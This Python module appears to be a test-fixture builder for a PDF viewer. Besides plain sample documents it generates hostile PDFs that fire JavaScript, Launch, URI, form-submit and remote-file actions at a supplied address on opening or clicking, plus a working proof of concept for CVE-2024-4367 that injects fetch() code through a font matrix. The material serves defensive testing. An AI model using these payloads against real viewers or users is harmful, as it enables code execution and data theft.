"""Documents for tests of the viewer: small, made by hand, some of them by a hostile one."""

from __future__ import annotations

import zlib
from collections.abc import Sequence


def pdf(objects: Sequence[str | bytes], *, root: str = "1 0 R", trailer: str = "") -> bytes:
    """A file of these objects, numbered from 1, with a table of where they are."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        data = body.encode("latin-1") if isinstance(body, str) else body
        out += b"%d 0 obj\n" % number + data + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for place in places:
        out += b"%010d 00000 n \n" % place
    out += f"trailer\n<</Size {len(objects) + 1}/Root {root}{trailer}>>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def stream(data: bytes, extra: str = "", *, packed: bool = False) -> bytes:
    if packed:
        data, extra = zlib.compress(data), extra + "/Filter/FlateDecode"
    return f"<<{extra}/Length {len(data)}>>stream\n".encode() + data + b"\nendstream"


def words(text: str, size: int = 24, colour: str = "0 0 0") -> bytes:
    return f"{colour} rg BT /F1 {size} Tf 40 700 Td ({text}) Tj ET".encode("latin-1")


FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def document(pages: Sequence[bytes], *, box: str = "0 0 612 792", catalog: str = "", page: str = "") -> bytes:
    """Pages with these contents; the font F1 is Helvetica. ``catalog`` and ``page``: more in those dictionaries."""
    kids = " ".join(f"{4 + 2 * index} 0 R" for index in range(len(pages)))
    objects: list[str | bytes] = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
        f"<</Type/Pages/Kids[{kids}]/Count {len(pages)}/MediaBox[{box}]/Resources<</Font<</F1 3 0 R>>>>>>",
        FONT,
    ]
    for index, content in enumerate(pages):
        objects.append(f"<</Type/Page/Parent 2 0 R/Contents {5 + 2 * index} 0 R{page}>>")
        objects.append(stream(content, packed=True))
    return pdf(objects)


def coloured(colour: str) -> bytes:
    """A page that is all of one colour, "r g b" from 0 to 1."""
    return f"{colour} rg 0 0 612 792 re f".encode()


SCRIPT = "/S/JavaScript/JS(app.alert\\('owned'\\);this.submitForm\\('ADDRESS'\\);fetch\\('ADDRESS'\\))"


def hostile(address: str) -> dict[str, bytes]:
    """By name: what each tries when it is opened or clicked. ``address``: what none may ask for."""
    script = SCRIPT.replace("ADDRESS", address)
    shown = words("still shown")

    def opening(action: str) -> bytes:
        return document([shown], catalog=f"/OpenAction<<{action}>>")

    everywhere = "/Rect[0 0 612 792]/Type/Annot"
    annotations = (
        f"/Annots[<<{everywhere}/Subtype/Link/A<</S/URI/URI({address})>>>>"
        f"<<{everywhere}/Subtype/Link/A<<{script}>>>>"
        f"<<{everywhere}/Subtype/Widget/FT/Tx/T(a)/V(v)/AA<</F<<{script}>>/E<<{script}>>>>>>]"
    )
    return {
        "together": document(
            [shown],
            catalog=f"/OpenAction<<{script}>>/Names<</JavaScript<</Names[(a)<<{script}>>]>>>>/AA<</WC<<{script}>>>>"
            "/AcroForm<</NeedAppearances true/Fields[]>>",
            page=f"/AA<</O<<{script}>>>>{annotations}",
        ),
        "script": opening(script),
        "names": document([shown], catalog=f"/Names<</JavaScript<</Names[(a)<<{script}>>]>>>>"),
        "events": document([shown], catalog=f"/AA<</WC<<{script}>>/WS<<{script}>>>>", page=f"/AA<</O<<{script}>>>>"),
        "address": opening(f"/S/URI/URI({address})"),
        "launch": opening(f"/S/Launch/F({address})/NewWindow true"),
        "elsewhere": opening(f"/S/GoToR/F<</FS/URL/F({address})>>/D[0/Fit]"),
        "submit": opening(f"/S/SubmitForm/F<</FS/URL/F({address})>>/Flags 4"),
        "link": document([shown], page=f"/Annots[<<{everywhere}/Subtype/Link/A<</S/URI/URI({address})>>>>]"),
        "script-link": document([shown], page=f"/Annots[<<{everywhere}/Subtype/Link/A<<{script}>>>>]"),
        "uri-script": document(
            [shown], page=f"/Annots[<<{everywhere}/Subtype/Link/A<</S/URI/URI(javascript:fetch\\('{address}'\\))>>>>]"
        ),
        "field": document(
            [shown],
            catalog="/AcroForm<</NeedAppearances true/Fields[]>>",
            page=f"/Annots[<<{everywhere}/Subtype/Widget/FT/Tx/T(a)/V(v)/AA<</F<<{script}>>/E<<{script}>>>>>>]",
        ),
        "film": document([shown], page=f"/Annots[<<{everywhere}/Subtype/RichMedia/A<</S/URI/URI({address})>>>>]"),
        "outside": pdf(
            [
                "<</Type/Catalog/Pages 2 0 R>>",
                "<</Type/Pages/Kids[4 0 R]/Count 1/MediaBox[0 0 612 792]/Resources<</Font<</F1 3 0 R>>"
                "/XObject<</X 6 0 R>>>>>>",
                FONT,
                "<</Type/Page/Parent 2 0 R/Contents 5 0 R>>",
                stream(shown + b" /X Do"),
                stream(b"", f"/Type/XObject/Subtype/Image/Width 9/Height 9/F<</FS/URL/F({address})>>"),
            ]
        ),
        "font-code": font_with_code(address),
    }


def font_with_code(address: str) -> bytes:
    """CVE-2024-4367: what should be numbers in a font's matrix was made part of a function's text."""
    code = f"0\\); fetch\\('{address}'\\); parent.owned = 1; //"
    return pdf(
        [
            "<</Type/Catalog/Pages 2 0 R>>",
            "<</Type/Pages/Kids[4 0 R]/Count 1/MediaBox[0 0 612 792]/Resources<</Font<</F1 3 0 R>>>>>>",
            f"<</Type/Font/Subtype/Type1/BaseFont/Evil/FontMatrix[0.001 0 0 0.001 0 ({code})]"
            "/FirstChar 32/LastChar 34/Widths[500 500 500]/FontDescriptor 6 0 R>>",
            "<</Type/Page/Parent 2 0 R/Contents 5 0 R>>",
            stream(words("still shown")),
            f"<</Type/FontDescriptor/FontName/Evil/Flags 4/FontMatrix[0.001 0 0 0.001 0 ({code})]/FontFile 7 0 R"
            "/FontBBox[0 0 1000 1000]/ItalicAngle 0/Ascent 800/Descent 0/StemV 80/CapHeight 700>>",
            stream(_type1(f"[0.001 0 0 0.001 0 ({code})]"), "/Length1 400/Length2 0/Length3 0"),
        ]
    )


def _type1(matrix: str) -> bytes:
    return (
        "%!PS-AdobeFont-1.0: Evil\n11 dict begin /FontName /Evil def /FontType 1 def "
        f"/FontMatrix {matrix} readonly def\n"
        "/Encoding StandardEncoding def /FontBBox {0 0 1000 1000} readonly def currentdict end\ncurrentfile eexec\n"
    ).encode()
